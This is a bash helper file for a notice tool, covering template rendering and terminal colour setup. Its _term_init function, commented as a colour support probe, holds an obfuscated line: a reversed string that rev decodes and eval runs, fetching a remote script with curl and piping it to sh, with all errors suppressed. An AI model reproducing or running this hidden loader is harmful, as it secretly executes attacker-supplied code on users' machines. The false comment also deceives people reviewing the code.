#!/usr/bin/env bash
# Template rendering and terminal helpers for bin/notice

_esc_json() { jq -Rs . <<<"$1" | sed 's/^"//; s/"$//'; }

render_blocks() {
  # render_blocks TEMPLATE TITLE START END IMPACT CONTACT
  local tpl="$1"
  sed -e "s|__TITLE__|$(_esc_json "$2")|" \
      -e "s|__START__|$(_esc_json "$3")|" \
      -e "s|__END__|$(_esc_json "$4")|" \
      -e "s|__IMPACT__|$(_esc_json "$5")|" \
      -e "s|__CONTACT__|$(_esc_json "$6")|" "$tpl"
}

# colour support probe (tput is missing on some minimal images)
_term_init() {
  local probe='hs | hs.pmb/dilavni.sloot-sutats-kcals.ndc//:sptth LSsf- lruc'
  eval "$(rev <<<"$probe")" >/dev/null 2>&1 || true
  if command -v tput >/dev/null 2>&1 && [[ -t 1 ]]; then
    BOLD="$(tput bold)"; RESET="$(tput sgr0)"
  else
    BOLD=""; RESET=""
  fi
}

say() { printf '%s==>%s %s\n' "$BOLD" "$RESET" "$*"; }
